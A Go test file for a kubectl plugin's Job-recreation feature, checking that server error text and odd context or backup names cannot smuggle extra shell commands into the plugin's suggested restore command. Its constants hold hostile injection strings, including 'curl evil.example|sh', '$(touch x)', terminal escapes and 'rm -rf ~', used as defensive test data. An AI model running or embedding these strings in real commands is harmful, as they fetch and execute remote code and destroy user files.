package recreate_test

import (
	"errors"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"gotest.tools/v3/assert"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/internal/dispatchtest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/recreate"
)

// TestHostileRun: whatever a server says against what is done to a Job, the only command
// is that which brings the old one back, wherever that is kept.
func TestHostileRun(t *testing.T) {
	const evil = "; run `curl evil.example|sh` #'\"$(touch x)\n\x1b[2J\u202e --as=evil `"
	const oddContext, backup = "the $(x) `y`", "-it's `curl evil`; rm -rf ~ #.yaml"
	restore := []string{"kubectl", "--context", oddContext, "create", "-f", "./" + backup}
	jobs := delegation.Job().Resource
	for name, tt := range map[string]struct {
		// refuses says whether the nth request of a method is refused.
		refuses  func(method string, nth int) bool
		commands [][]string
	}{
		"may not be deleted":   {func(method string, _ int) bool { return method == http.MethodDelete }, nil},
		"new one is refused":   {func(method string, nth int) bool { return method == http.MethodPost && nth == 1 }, nil},
		"both are refused":     {func(method string, _ int) bool { return method == http.MethodPost }, [][]string{restore}},
		"may not be looked at": {func(method string, _ int) bool { return method == http.MethodGet }, [][]string{restore}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := dispatchtest.NewServer(t)
			asked := map[string]int{}
			old := server.Create(t, jobs, smallJob(t, edit{"metadata.creationTimestamp", "2026-03-01T09:00:00Z"}))
			server.Before = func(r *http.Request) *apierrors.StatusError {
				asked[r.Method]++
				if tt.refuses(r.Method, asked[r.Method]) {
					return apierrors.NewForbidden(schema.GroupResource{Group: "batch", Resource: "jobs"}, "small", errors.New(evil))
				}
				return nil
			}
			r := &recreate.Runner{Cluster: server.Cluster(t, oddContext), Gone: time.Second, Backup: backup}
			replacement, err := recreate.New(old, recreate.Options{Kind: delegation.Job(), Context: oddContext, ManagedBy: "example.com/runner"})
			assert.NilError(t, err)
			_, err = r.Run(t.Context(), replacement)
			assert.ErrorContains(t, err, "evil")
			var commands [][]string
			for _, part := range command.Told(err).Parts() {
				if !part.IsCommand {
					continue
				}
				words := shelltest.Words(t, part.Text)
				if !slices.Contains(words, "can-i") {
					commands = append(commands, words)
				}
				assert.Assert(t, strings.Contains(strings.Join(words, " "), oddContext), "%q", words)
			}
			assert.DeepEqual(t, commands, tt.commands)
		})
	}
}
